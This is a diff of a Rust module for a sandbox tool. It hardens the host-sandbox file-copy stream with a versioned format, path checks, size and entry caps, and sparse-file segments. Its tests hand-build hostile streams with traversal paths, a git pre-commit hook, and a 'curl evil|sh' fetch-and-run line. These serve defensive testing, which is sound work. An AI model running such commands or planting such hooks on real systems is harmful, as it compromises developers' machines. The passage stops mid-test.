@@ -2,367 +2,534 @@
 //! helper speaks (see `helper/sbx_helper.rs`), and to and from tar for
 //! `backup`/`restore`.
 //!
-//! The sandbox is untrusted: a stream it sends may name `../../etc/passwd`,
-//! or plant a symlink and then a file "inside" it. Writing on the host never
-//! leaves the destination that was named and never follows a link (the
-//! docker cp symlink race, CVE-2018-15664, is the cautionary tale), and
-//! setuid/setgid bits are dropped: sbx often runs as root.
+//! The sandbox is untrusted (issue 9): the helper may have been replaced and
+//! its stream may name `../../etc/passwd`, a sibling of what was asked for,
+//! `.git/hooks/pre-commit`, a symlink and then a file "inside" it, or a
+//! terabyte. So the stream is decoded entry by entry, never held whole;
+//! every name is checked before anything is created (relative, no `..`, `.`
+//! or empty component, and its first component is exactly the name that
+//! was asked for); sizes and the entry count are capped ([`Limits`]). Host
+//! writes go through descriptors ([`host`]), never check-then-open by path.
+//!
+//! Wire format, version 2 (the helper has its own copy of this; both sides
+//! start with [`MAGIC`], so a helper of another version fails clearly):
+//!
+//! ```text
+//! stream  = MAGIC record* end
+//! record  = kind:u8 mode:u32 path_len:u16 path len:u64 body
+//!   'D'   directory, len 0, no body
+//!   'L'   symlink, len = target length (<= 4096), body = target
+//!   'F'   file, len = its size; body = segment* (0:u64 0:u64)
+//!         segment = offset:u64 seg_len:u64 bytes, seg_len > 0, ascending,
+//!         within the size; what no segment covers is a hole (sparse files
+//!         stay sparse: issue 9 finding 6)
+//! end     = 'E' 0:u32 0:u16 0:u64
+//! ```
+//! Integers are big-endian.
 
-use std::fs::OpenOptions;
+pub mod archive;
+pub mod host;
+
 use std::io::{self, Read, Write};
-use std::os::unix::fs::{MetadataExt, OpenOptionsExt, PermissionsExt};
-use std::path::{Component, Path, PathBuf};
 
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Kind {
-    File,
-    Dir,
-    Symlink,
+/// First bytes of every record stream: name and format version.
+pub const MAGIC: &[u8; 8] = b"SBXREC\x00\x02";
+/// Longest path and symlink target accepted in a stream.
+pub const MAX_PATH: usize = 4096;
+/// Longest single name component (Linux NAME_MAX).
+pub const MAX_NAME: usize = 255;
+/// Default cap on the total (logical) size of what one copy, backup or
+/// restore moves; `--max-bytes` raises it.
+pub const DEFAULT_MAX_BYTES: u64 = 1 << 30;
+/// Default cap on the number of entries in one stream.
+pub const DEFAULT_MAX_ENTRIES: u64 = 1_000_000;
+
+/// What one stream may carry at most.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Limits {
+    /// Sum of the files' sizes (holes included: a sparse file copied to a
+    /// tool that does not keep holes would fill the disk all the same).
+    pub max_bytes: u64,
+    pub max_entries: u64,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits { max_bytes: DEFAULT_MAX_BYTES, max_entries: DEFAULT_MAX_ENTRIES }
+    }
+}
+
+/// "1.5 GiB" and the like, for messages.
+pub fn human(n: u64) -> String {
+    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
+    let mut v = n as f64;
+    let mut u = 0;
+    while v >= 1024.0 && u < UNITS.len() - 1 {
+        v /= 1024.0;
+        u += 1;
+    }
+    if u == 0 {
+        format!("{n} B")
+    } else {
+        format!("{v:.1} {}", UNITS[u])
+    }
+}
+
+/// `--max-bytes`: a number of bytes with an optional K/M/G/T suffix
+/// (powers of 1024; `KiB`, `K`, `KB` all mean 1024).
+pub fn parse_max_bytes(s: &str) -> Result<u64, crate::error::Invalid> {
+    let bad = || crate::error::Invalid::new("size", s, "expected bytes, optionally with a suffix: 512M, 4GiB, 1T");
+    let t = s.trim();
+    let split = t.find(|c: char| !c.is_ascii_digit()).unwrap_or(t.len());
+    let (num, unit) = t.split_at(split);
+    let n: u64 = num.parse().map_err(|_| bad())?;
+    let shift = match unit.trim().to_ascii_uppercase().trim_end_matches("IB").trim_end_matches('B') {
+        "" => 0,
+        "K" => 10,
+        "M" => 20,
+        "G" => 30,
+        "T" => 40,
+        _ => return Err(bad()),
+    };
+    let v = n.checked_mul(1u64 << shift).ok_or_else(bad)?;
+    if v == 0 {
+        return Err(crate::error::Invalid::new("size", s, "must be more than 0"));
+    }
+    Ok(v)
 }
 
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Entry {
+pub enum Kind {
+    Dir,
+    /// Its data follows as segments: [`Decoder::next_segment`] and `read`.
+    File {
+        size: u64,
+    },
+    Symlink {
+        target: Vec<u8>,
+    },
+}
+
+/// One entry's header, checked.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Record {
     pub kind: Kind,
+    /// Permission bits only (`& 0o7777`); callers drop setuid/setgid.
     pub mode: u32,
-    /// Relative, '/'-separated, starting with the top-level name.
+    /// Relative, '/'-separated, starting with the root name.
     pub path: String,
-    /// File content or symlink target.
-    pub data: Vec<u8>,
 }
 
 fn invalid(msg: String) -> io::Error {
     io::Error::new(io::ErrorKind::InvalidData, msg)
 }
 
-pub fn encode(entries: &[Entry], out: &mut impl Write) -> io::Result<()> {
-    for e in entries {
-        let kind = match e.kind {
-            Kind::File => b'F',
-            Kind::Dir => b'D',
-            Kind::Symlink => b'L',
-        };
-        out.write_all(&[kind])?;
-        out.write_all(&e.mode.to_be_bytes())?;
-        out.write_all(&(e.path.len() as u16).to_be_bytes())?;
-        out.write_all(e.path.as_bytes())?;
-        out.write_all(&(e.data.len() as u64).to_be_bytes())?;
-        out.write_all(&e.data)?;
+/// A path from the other side that is exactly `root` or below it: no
+/// absolute path, no `..`, `.` or empty component, no NUL, no overlong name.
+pub fn check_name(path: &str, root: &str) -> io::Result<()> {
+    let refuse = |why: &str| Err(invalid(format!("refusing entry {path:?}: {why}")));
+    if path.len() > MAX_PATH {
+        return refuse("the path is too long");
     }
-    out.write_all(&[b'E', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
-}
-
-pub fn decode(mut r: impl Read) -> io::Result<Vec<Entry>> {
-    let mut out = Vec::new();
-    loop {
-        let mut head = [0u8; 7];
-        r.read_exact(&mut head)?;
-        let plen = u16::from_be_bytes([head[5], head[6]]) as usize;
-        let mut path = vec![0u8; plen];
-        r.read_exact(&mut path)?;
-        let mut len = [0u8; 8];
-        r.read_exact(&mut len)?;
-        let kind = match head[0] {
-            b'E' => return Ok(out),
-            b'F' => Kind::File,
-            b'D' => Kind::Dir,
-            b'L' => Kind::Symlink,
-            other => return Err(invalid(format!("unknown record type {other}"))),
-        };
-        let len = u64::from_be_bytes(len);
-        let mut data = Vec::new();
-        (&mut r).take(len).read_to_end(&mut data)?;
-        if data.len() as u64 != len {
-            return Err(invalid("truncated stream".into()));
+    if path.contains('\0') {
+        return refuse("it contains a NUL byte");
+    }
+    for (i, c) in path.split('/').enumerate() {
+        if c.is_empty() || c == "." || c == ".." {
+            return refuse("it would leave the destination (absolute, or an empty, '.' or '..' component)");
         }
-        let path = String::from_utf8(path).map_err(|_| invalid("a path is not UTF-8".into()))?;
-        out.push(Entry { kind, mode: u32::from_be_bytes([head[1], head[2], head[3], head[4]]) & 0o7777, path, data });
-    }
-}
-
-/// A path that stays inside whatever it is joined to.
-pub fn check_relative(path: &str) -> io::Result<&Path> {
-    let p = Path::new(path);
-    if path.is_empty() || !p.components().all(|c| matches!(c, Component::Normal(_))) {
-        return Err(invalid(format!("refusing {path:?}: it would leave the destination")));
-    }
-    Ok(p)
-}
-
-/// Read a host path into entries, never following symlinks below it.
-pub fn read_host(src: &Path) -> io::Result<Vec<Entry>> {
-    let name = src
-        .file_name()
-        .and_then(|n| n.to_str())
-        .ok_or_else(|| invalid(format!("{} has no usable name", src.display())))?;
-    let mut out = Vec::new();
-    walk(src, name.to_string(), &mut out)?;
-    Ok(out)
-}
-
-fn walk(path: &Path, rel: String, out: &mut Vec<Entry>) -> io::Result<()> {
-    let md = std::fs::symlink_metadata(path)?;
-    let mode = md.mode() & 0o7777;
-    if md.file_type().is_symlink() {
-        let target = std::fs::read_link(path)?;
-        out.push(Entry { kind: Kind::Symlink, mode, path: rel, data: target.into_os_string().into_encoded_bytes() });
-    } else if md.is_dir() {
-        out.push(Entry { kind: Kind::Dir, mode, path: rel.clone(), data: Vec::new() });
-        let mut names: Vec<_> = std::fs::read_dir(path)?.flatten().map(|e| e.file_name()).collect();
-        names.sort();
-        for n in names {
-            let Some(s) = n.to_str() else { continue };
-            walk(&path.join(&n), format!("{rel}/{s}"), out)?;
+        if c.len() > MAX_NAME {
+            return refuse("a name in it is longer than 255 bytes");
         }
-    } else if md.is_file() {
-        out.push(Entry { kind: Kind::File, mode, path: rel, data: std::fs::read(path)? });
-    }
-    Ok(())
-}
-
-/// Fail if any existing component from `base` down to `path` is a symlink.
-fn no_links_between(base: &Path, path: &Path) -> io::Result<()> {
-    let rel =
-        path.strip_prefix(base).map_err(|_| invalid(format!("{} is outside {}", path.display(), base.display())))?;
-    let mut cur = base.to_path_buf();
-    for c in rel.components() {
-        cur.push(c);
-        match std::fs::symlink_metadata(&cur) {
-            Ok(md) if md.file_type().is_symlink() => {
-                return Err(invalid(format!("{} is a symlink; refusing to write through it", cur.display())))
-            }
-            _ => {}
+        if i == 0 && c != root {
+            return refuse(&format!("it is not {root:?} or inside it, which is all that was asked for"));
         }
     }
     Ok(())
 }
 
-/// Write entries under `dst` on the host, as `cp` does: into `dst` when it
-/// is an existing directory, otherwise as `dst` itself.
-pub fn write_host(entries: &[Entry], dst: &Path) -> io::Result<()> {
-    let into_dir = std::fs::symlink_metadata(dst).map(|m| m.is_dir()).unwrap_or(false);
-    let base = if into_dir {
-        dst.to_path_buf()
+/// The name a copy of `path` (in the sandbox) carries: its last component.
+pub fn root_name(path: &str) -> Option<String> {
+    std::path::Path::new(path).file_name().and_then(|n| n.to_str()).map(str::to_string)
+}
+
+struct FileState {
+    size: u64,
+    /// End of the last segment: the next must start at or after it.
+    pos: u64,
+    /// Bytes of the current segment not yet read.
+    left: u64,
+    ended: bool,
+}
+
+/// Reads a record stream one entry at a time, checking names and limits
+/// before the caller sees an entry.
+pub struct Decoder<R> {
+    r: R,
+    root: String,
+    limits: Limits,
+    entries: u64,
+    bytes: u64,
+    file: Option<FileState>,
+    ended: bool,
+}
+
+fn read_u64(r: &mut impl Read) -> io::Result<u64> {
+    let mut b = [0u8; 8];
+    r.read_exact(&mut b)?;
+    Ok(u64::from_be_bytes(b))
+}
+
+fn truncated(e: io::Error) -> io::Error {
+    if e.kind() == io::ErrorKind::UnexpectedEof {
+        io::Error::new(io::ErrorKind::UnexpectedEof, "the stream ended in the middle of an entry")
     } else {
-        dst.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new(".")).to_path_buf()
-    };
-    let mut dirs = Vec::new();
-    for e in entries {
-        let rel = check_relative(&e.path)?;
-        let rest: PathBuf = rel.components().skip(1).collect();
-        let target: PathBuf = if into_dir {
-            dst.join(rel)
-        } else if rest.as_os_str().is_empty() {
-            dst.to_path_buf()
-        } else {
-            dst.join(rest)
-        };
-        // The destination's parent exists and was named by the operator; from
-        // there down nothing may be a symlink (ones this stream made included).
-        no_links_between(&base, target.parent().unwrap_or(&base))?;
-        if std::fs::symlink_metadata(&target).map(|m| m.file_type().is_symlink()).unwrap_or(false) {
-            std::fs::remove_file(&target)?;
-        }
-        // No setuid/setgid from a sandbox onto the host.
-        let mode = e.mode & 0o1777;
-        match e.kind {
-            Kind::Dir => {
-                if !target.is_dir() {
-                    std::fs::create_dir(&target)?;
-                }
-                dirs.push((target, mode));
-            }
-            Kind::File => {
-                let mut f = OpenOptions::new()
-                    .write(true)
-                    .create(true)
-                    .truncate(true)
-                    .custom_flags(nix::libc::O_NOFOLLOW)
-                    .mode(0o600)
-                    .open(&target)?;
-                f.write_all(&e.data)?;
-                f.set_permissions(std::fs::Permissions::from_mode(mode))?;
-            }
-            Kind::Symlink => {
-                let _ = std::fs::remove_file(&target);
-                std::os::unix::fs::symlink(
-                    <std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(&e.data),
-                    &target,
-                )?;
-            }
-        }
+        e
     }
-    for (d, mode) in dirs.into_iter().rev() {
-        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(mode))?;
-    }
-    Ok(())
 }
 
-/// Entries as a tar stream whose root is the top-level entry itself.
-pub fn to_tar(entries: &[Entry], out: impl Write) -> io::Result<()> {
-    let mut b = tar::Builder::new(out);
-    b.follow_symlinks(false);
-    for e in entries {
-        let rest: PathBuf = Path::new(&e.path).components().skip(1).collect();
-        let name = if rest.as_os_str().is_empty() { PathBuf::from(".") } else { rest };
-        let mut h = tar::Header::new_gnu();
-        h.set_mode(e.mode);
-        h.set_mtime(0);
-        match e.kind {
-            Kind::Dir => {
-                h.set_entry_type(tar::EntryType::Directory);
-                h.set_size(0);
-                b.append_data(&mut h, &name, io::empty())?;
-            }
-            Kind::File => {
-                h.set_entry_type(tar::EntryType::Regular);
-                h.set_size(e.data.len() as u64);
-                b.append_data(&mut h, &name, e.data.as_slice())?;
-            }
-            Kind::Symlink => {
-                h.set_entry_type(tar::EntryType::Symlink);
-                h.set_size(0);
-                let target = <std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(&e.data);
-                b.append_link(&mut h, &name, target)?;
+impl<R: Read> Decoder<R> {
+    /// Read and check the stream's magic; every entry must be `root` or below it.
+    pub fn new(mut r: R, root: &str, limits: Limits) -> io::Result<Self> {
+        let mut magic = [0u8; 8];
+        let mut got = 0;
+        while got < magic.len() {
+            match r.read(&mut magic[got..]) {
+                Ok(0) => break,
+                Ok(n) => got += n,
+                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
+                Err(e) => return Err(e),
             }
         }
+        if got == 0 {
+            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "the helper sent nothing"));
+        }
+        if &magic[..got] != MAGIC {
+            return Err(invalid(
+                "the helper's output is not sbx's record stream version 2 (a helper of another sbx version, \
+                 or a replaced one)"
+                    .into(),
+            ));
+        }
+        Ok(Decoder { r, root: root.to_string(), limits, entries: 0, bytes: 0, file: None, ended: false })
     }
-    b.finish()
-}
 
-/// A tar stream as entries under the top-level name `root`. Every entry is
-/// checked before anything is written: one that would escape (absolute,
-/// `..`, a hard link, a device) refuses the whole archive.
-pub fn from_tar(input: impl Read, root: &str) -> io::Result<Vec<Entry>> {
-    let mut out = vec![Entry { kind: Kind::Dir, mode: 0o755, path: root.to_string(), data: Vec::new() }];
-    let mut a = tar::Archive::new(input);
-    for e in a.entries()? {
-        let mut e = e?;
-        let raw = e.path()?.into_owned();
-        let rel: PathBuf = raw.components().filter(|c| !matches!(c, Component::CurDir)).collect();
-        if rel.as_os_str().is_empty() {
-            continue;
+    /// Entries so far and the sum of their file sizes.
+    pub fn counts(&self) -> (u64, u64) {
+        (self.entries, self.bytes)
+    }
+
+    /// The next entry, `None` at the end record. Data of a file the caller
+    /// did not read is skipped.
+    pub fn next_record(&mut self) -> io::Result<Option<Record>> {
+        if self.ended {
+            return Ok(None);
         }
-        let rel_s = rel.to_str().ok_or_else(|| invalid(format!("{} is not UTF-8", raw.display())))?.to_string();
-        check_relative(&rel_s).map_err(|_| {
-            invalid(format!("refusing the archive: entry {:?} would escape the workspace", raw.display()))
-        })?;
-        let mode = e.header().mode().unwrap_or(0o644) & 0o7777;
-        let path = format!("{root}/{rel_s}");
-        let kind = e.header().entry_type();
-        let entry = if kind.is_dir() {
-            Entry { kind: Kind::Dir, mode, path, data: Vec::new() }
-        } else if kind.is_file() {
-            let mut data = Vec::new();
-            e.read_to_end(&mut data)?;
-            Entry { kind: Kind::File, mode, path, data }
-        } else if kind.is_symlink() {
-            let target = e.link_name()?.ok_or_else(|| invalid(format!("symlink {rel_s} has no target")))?;
-            Entry { kind: Kind::Symlink, mode, path, data: target.into_owned().into_os_string().into_encoded_bytes() }
-        } else {
+        if self.file.is_some() {
+            let mut sink = io::sink();
+            while self.next_segment()?.is_some() {
+                io::copy(self, &mut sink)?;
+            }
+            self.file = None;
+        }
+        let mut head = [0u8; 7];
+        self.r.read_exact(&mut head).map_err(truncated)?;
+        let mode = u32::from_be_bytes([head[1], head[2], head[3], head[4]]) & 0o7777;
+        let plen = u16::from_be_bytes([head[5], head[6]]) as usize;
+        if plen > MAX_PATH {
+            return Err(invalid(format!("refusing an entry whose path is {plen} bytes long")));
+        }
+        let mut path = vec![0u8; plen];
+        self.r.read_exact(&mut path).map_err(truncated)?;
+        let len = read_u64(&mut self.r).map_err(truncated)?;
+        if head[0] == b'E' {
+            if plen != 0 || len != 0 {
+                return Err(invalid("a malformed end record".into()));
+            }
+            // Nothing may follow the end: a stream is one answer, not two.
+            let mut one = [0u8; 1];
+            if self.r.read(&mut one)? != 0 {
+                return Err(invalid("data after the end of the stream".into()));
+            }
+            self.ended = true;
+            return Ok(None);
+        }
+        let path = String::from_utf8(path).map_err(|_| invalid("refusing an entry whose path is not UTF-8".into()))?;
+        check_name(&path, &self.root)?;
+        self.entries += 1;
+        if self.entries > self.limits.max_entries {
             return Err(invalid(format!(
-                "refusing the archive: entry {rel_s:?} is a {kind:?}, not a file, directory or symlink"
+                "more than {} entries in one stream; refusing the rest",
+                self.limits.max_entries
+            )));
+        }
+        let kind = match head[0] {
+            b'D' if len == 0 => Kind::Dir,
+            b'D' => return Err(invalid(format!("directory {path:?} claims {len} bytes of data"))),
+            b'L' => {
+                if len > MAX_PATH as u64 {
+                    return Err(invalid(format!("refusing symlink {path:?}: its target is {len} bytes long")));
+                }
+                let mut target = vec![0u8; len as usize];
+                self.r.read_exact(&mut target).map_err(truncated)?;
+                if target.is_empty() || target.contains(&0) {
+                    return Err(invalid(format!("refusing symlink {path:?}: empty target or a NUL byte in it")));
+                }
+                Kind::Symlink { target }
+            }
+            b'F' => {
+                let total = self.bytes.saturating_add(len);
+                if total > self.limits.max_bytes {
+                    return Err(io::Error::other(format!(
+                        "{path:?} is {} and would bring the copy to {}, over the cap of {}; \
+                             raise it with --max-bytes",
+                        human(len),
+                        human(total),
+                        human(self.limits.max_bytes)
+                    )));
+                }
+                self.bytes = total;
+                self.file = Some(FileState { size: len, pos: 0, left: 0, ended: false });
+                Kind::File { size: len }
+            }
+            other => return Err(invalid(format!("unknown record type {other:#04x}"))),
+        };
+        Ok(Some(Record { kind, mode, path }))
+    }
+
+    /// The current file's next data segment as (offset, length); its bytes
+    /// are then read from the decoder itself. `None` after the last one.
+    pub fn next_segment(&mut self) -> io::Result<Option<(u64, u64)>> {
+        let left = match &self.file {
+            Some(f) if !f.ended => f.left,
+            _ => return Ok(None),
+        };
+        if left > 0 {
+            io::copy(&mut (&mut *self).take(left), &mut io::sink())?;
+        }
+        let off = read_u64(&mut self.r).map_err(truncated)?;
+        let len = read_u64(&mut self.r).map_err(truncated)?;
+        let f = self.file.as_mut().expect("checked above");
+        if len == 0 {
+            f.ended = true;
+            return Ok(None);
+        }
+        let end = off.checked_add(len).filter(|&e| off >= f.pos && e <= f.size);
+        let Some(end) = end else {
+            return Err(invalid(format!(
+                "a data segment at {off}+{len} lies outside its file of {} bytes or overlaps the last",
+                f.size
             )));
         };
-        out.push(entry);
+        f.pos = end;
+        f.left = len;
+        Ok(Some((off, len)))
     }
-    Ok(out)
+}
+
+impl<R: Read> Read for Decoder<R> {
+    /// The current segment's bytes; 0 at its end.
+    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
+        let Some(f) = self.file.as_mut() else { return Ok(0) };
+        if f.left == 0 || buf.is_empty() {
+            return Ok(0);
+        }
+        let want = buf.len().min(f.left.min(usize::MAX as u64) as usize);
+        let n = self.r.read(&mut buf[..want])?;
+        if n == 0 {
+            return Err(io::Error::new(io::ErrorKind::UnexpectedEof, "the stream ended in the middle of a file"));
+        }
+        f.left -= n as u64;
+        Ok(n)
+    }
+}
+
+/// Writes a record stream.
+pub struct Encoder<W: Write> {
+    w: W,
+}
+
+impl<W: Write> Encoder<W> {
+    pub fn new(mut w: W) -> io::Result<Self> {
+        w.write_all(MAGIC)?;
+        Ok(Encoder { w })
+    }
+
+    fn head(&mut self, kind: u8, mode: u32, path: &str, len: u64) -> io::Result<()> {
+        if path.len() > MAX_PATH {
+            return Err(invalid(format!("{path:?} is longer than {MAX_PATH} bytes")));
+        }
+        self.w.write_all(&[kind])?;
+        self.w.write_all(&mode.to_be_bytes())?;
+        self.w.write_all(&(path.len() as u16).to_be_bytes())?;
+        self.w.write_all(path.as_bytes())?;
+        self.w.write_all(&len.to_be_bytes())
+    }
+
+    pub fn dir(&mut self, path: &str, mode: u32) -> io::Result<()> {
+        self.head(b'D', mode, path, 0)
+    }
+
+    pub fn symlink(&mut self, path: &str, mode: u32, target: &[u8]) -> io::Result<()> {
+        self.head(b'L', mode, path, target.len() as u64)?;
+        self.w.write_all(target)
+    }
+
+    /// A file header; then [`Encoder::segment`]s and [`Encoder::end_file`].
+    pub fn file(&mut self, path: &str, mode: u32, size: u64) -> io::Result<()> {
+        self.head(b'F', mode, path, size)
+    }
+
+    /// Exactly `len` bytes from `data` at `offset`; a short source is padded
+    /// with zeros (a file that shrank while read) so the stream stays whole.
+    pub fn segment(&mut self, offset: u64, len: u64, data: &mut impl Read) -> io::Result<()> {
+        if len == 0 {
+            return Ok(());
+        }
+        self.w.write_all(&offset.to_be_bytes())?;
+        self.w.write_all(&len.to_be_bytes())?;
+        let copied = io::copy(&mut data.take(len), &mut self.w)?;
+        io::copy(&mut io::repeat(0).take(len - copied), &mut self.w)?;
+        Ok(())
+    }
+
+    pub fn end_file(&mut self) -> io::Result<()> {
+        self.w.write_all(&[0u8; 16])
+    }
+
+    pub fn end(mut self) -> io::Result<W> {
+        self.head(b'E', 0, "", 0)?;
+        self.w.flush()?;
+        Ok(self.w)
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn tmp(tag: &str) -> PathBuf {
-        let d = std::env::temp_dir().join(format!("sbx-xfer-{tag}-{}-{:x}", std::process::id(), rand::random::<u32>()));
-        std::fs::create_dir_all(&d).unwrap();
-        d
-    }
-
-    fn e(kind: Kind, mode: u32, path: &str, data: &[u8]) -> Entry {
-        Entry { kind, mode, path: path.into(), data: data.to_vec() }
-    }
-
-    #[test]
-    fn round_trip_through_the_stream_and_the_host() {
-        let src = tmp("src");
-        let tree = src.join("tree");
-        std::fs::create_dir_all(tree.join("sub")).unwrap();
-        std::fs::write(tree.join("sub/a.bin"), [0u8, 1, 2, 255]).unwrap();
-        std::fs::set_permissions(tree.join("sub/a.bin"), std::fs::Permissions::from_mode(0o751)).unwrap();
-        std::os::unix::fs::symlink("sub/a.bin", tree.join("link")).unwrap();
-        let entries = read_host(&tree).unwrap();
-        let mut buf = Vec::new();
-        encode(&entries, &mut buf).unwrap();
-        let back = decode(buf.as_slice()).unwrap();
-        assert_eq!(back, entries);
-        let dst = tmp("dst");
-        write_host(&back, &dst).unwrap();
-        assert_eq!(std::fs::read(dst.join("tree/sub/a.bin")).unwrap(), [0u8, 1, 2, 255]);
-        assert_eq!(std::fs::metadata(dst.join("tree/sub/a.bin")).unwrap().mode() & 0o7777, 0o751);
-        assert_eq!(std::fs::read_link(dst.join("tree/link")).unwrap(), PathBuf::from("sub/a.bin"));
-        // To a new name instead of into a directory; a single file too.
-        write_host(&back, &dst.join("renamed")).unwrap();
-        assert!(dst.join("renamed/sub/a.bin").exists());
-        write_host(&[e(Kind::File, 0o600, "one", b"1")], &dst.join("other-name")).unwrap();
-        assert_eq!(std::fs::read(dst.join("other-name")).unwrap(), b"1");
-        std::fs::remove_dir_all(src).unwrap();
-        std::fs::remove_dir_all(dst).unwrap();
-    }
-
-    #[test]
-    fn a_hostile_stream_cannot_leave_the_destination() {
-        let dst = tmp("hostile");
-        let outside = tmp("outside");
-        for bad in ["../x", "/etc/x", "a/../../x", ""] {
-            let err = write_host(&[e(Kind::File, 0o644, bad, b"x")], &dst).unwrap_err();
-            assert!(err.to_string().contains("refusing"), "{bad}: {err}");
+    /// A stream built by hand: what a hostile helper could send.
+    pub(crate) fn raw(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
+        let mut v = MAGIC.to_vec();
+        for (kind, mode, path, data) in records {
+            v.push(*kind);
+            v.extend_from_slice(&mode.to_be_bytes());
+            v.extend_from_slice(&(path.len() as u16).to_be_bytes());
+            v.extend_from_slice(path.as_bytes());
+            v.extend_from_slice(&(data.len() as u64).to_be_bytes());
+            if *kind == b'F' {
+                if !data.is_empty() {
+                    v.extend_from_slice(&0u64.to_be_bytes());
+                    v.extend_from_slice(&(data.len() as u64).to_be_bytes());
+                    v.extend_from_slice(data);
+                }
+                v.extend_from_slice(&[0u8; 16]);
+            } else {
+                v.extend_from_slice(data);
+            }
         }
-        // A symlink planted first, then a file "inside" it.
-        let entries = vec![
-            e(Kind::Dir, 0o755, "t", b""),
-            e(Kind::Symlink, 0o777, "t/escape", outside.to_str().unwrap().as_bytes()),
-            e(Kind::File, 0o644, "t/escape/pwned", b"x"),
-        ];
-        let err = write_host(&entries, &dst).unwrap_err();
-        assert!(err.to_string().contains("symlink"), "{err}");
-        assert!(!outside.join("pwned").exists());
-        // A file over an existing symlink replaces the link, not its target.
-        std::fs::create_dir_all(dst.join("u")).unwrap();
-        std::os::unix::fs::symlink(outside.join("victim"), dst.join("u/f")).unwrap();
-        write_host(&[e(Kind::Dir, 0o755, "u", b""), e(Kind::File, 0o644, "u/f", b"mine")], &dst).unwrap();
-        assert!(!outside.join("victim").exists());
-        assert_eq!(std::fs::read(dst.join("u/f")).unwrap(), b"mine");
-        // setuid does not survive the trip to the host.
-        write_host(&[e(Kind::File, 0o4755, "suid", b"x")], &dst).unwrap();
-        assert_eq!(std::fs::metadata(dst.join("suid")).unwrap().mode() & 0o7777, 0o755);
-        std::fs::remove_dir_all(dst).unwrap();
-        std::fs::remove_dir_all(outside).unwrap();
+        v.push(b'E');
+        v.extend_from_slice(&[0u8; 14]);
+        v
+    }
+
+    type Segments = Vec<(u64, Vec<u8>)>;
+
+    fn all(stream: &[u8], root: &str, limits: Limits) -> io::Result<Vec<(Record, Segments)>> {
+        let mut d = Decoder::new(stream, root, limits)?;
+        let mut out = Vec::new();
+        while let Some(r) = d.next_record()? {
+            let mut segs = Vec::new();
+            while let Some((off, _)) = d.next_segment()? {
+                let mut b = Vec::new();
+                d.read_to_end(&mut b)?;
+                segs.push((off, b));
+            }
+            out.push((r, segs));
+        }
+        Ok(out)
     }
 
     #[test]
-    fn tar_round_trip_and_escapes_refused() {
-        let entries = vec![
-            e(Kind::Dir, 0o755, "workspace", b""),
-            e(Kind::File, 0o640, "workspace/a.txt", b"hello"),
-            e(Kind::Symlink, 0o777, "workspace/l", b"a.txt"),
-        ];
-        let mut tar = Vec::new();
-        to_tar(&entries, &mut tar).unwrap();
-        let back = from_tar(tar.as_slice(), "workspace").unwrap();
-        assert_eq!(back[1..], entries[1..]);
-
-        for evil in ["../escape", "/abs"] {
-            let mut b = tar::Builder::new(Vec::new());
-            let mut h = tar::Header::new_gnu();
-            h.set_size(1);
-            h.set_mode(0o644);
-            // Write the name raw: the builder itself refuses such paths.
-            h.as_old_mut().name[..evil.len()].copy_from_slice(evil.as_bytes());
-            h.set_cksum();
-            b.append(&h, &b"x"[..]).unwrap();
-            let data = b.into_inner().unwrap();
-            let err = from_tar(data.as_slice(), "workspace").unwrap_err();
-            assert!(err.to_string().contains("escape"), "{evil}: {err}");
+    fn names_outside_the_requested_root_are_refused() {
+        for bad in [
+            "../x",
+            "/etc/x",
+            "report.txt/../../x",
+            "",
+            "sibling.txt",
+            ".git/hooks/pre-commit",
+            "report.txt/./x",
+            "report.txt//x",
+            "report.txt/",
+            "report.txtx",
+            "report.txt/a\0b",
+        ] {
+            let err = check_name(bad, "report.txt").unwrap_err();
+            assert!(err.to_string().contains("refusing entry"), "{bad}: {err}");
         }
+        for good in ["report.txt", "report.txt/a", "report.txt/.hidden/..x"] {
+            check_name(good, "report.txt").unwrap();
+        }
+        // The issue 9 stream: the asked-for file, then a sibling and a git hook.
+        let s = raw(&[
+            (b'F', 0o644, "report.txt", b"ok"),
+            (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil|sh\n"),
+        ]);
+        let err = all(&s, "report.txt", Limits::default()).unwrap_err();
+        assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
+    }
+
+    #[test]
+    fn magic_truncation_trailing_data_and_bad_segments_fail() {
+        let good = raw(&[(b'D', 0o755, "d", b""), (b'F', 0o644, "d/f", b"hello")]);
+        let got = all(&good, "d", Limits::default()).unwrap();
+        assert_eq!(got[1].1, vec![(0, b"hello".to_vec())]);
+        // Old helper (no magic), nothing at all, cut anywhere, extra bytes.
+        assert!(all(&good[8..], "d", Limits::default()).unwrap_err().to_string().contains("version 2"));
+        assert!(all(b"", "d", Limits::default()).unwrap_err().to_string().contains("sent nothing"));
+        for cut in 9..good.len() {
+            let err = all(&good[..cut], "d", Limits::default()).unwrap_err();
+            assert_eq!(err.kind(), io::ErrorKind::UnexpectedEof, "cut at {cut}: {err}");
+        }
+        let mut extra = good.clone();
+        extra.push(b'D');
+        assert!(all(&extra, "d", Limits::default()).unwrap_err().to_string().contains("after the end"));
+        // A segment beyond the file's size, or going backwards.
+        let mut v = MAGIC.to_vec();
+        v.extend_from_slice(&[b'F', 0, 0, 1, 0xa4, 0, 1, b'f']);
+        v.extend_from_slice(&4u64.to_be_bytes());
+        v.extend_from_slice(&2u64.to_be_bytes());
+        v.extend_from_slice(&4u64.to_be_bytes());
+        v.extend_from_slice(b"abcd");
+        assert!(all(&v, "f", Limits::default()).unwrap_err().to_string().contains("outside its file"));
+    }
+
+    #[test]
+    fn caps_on_bytes_and_entries() {
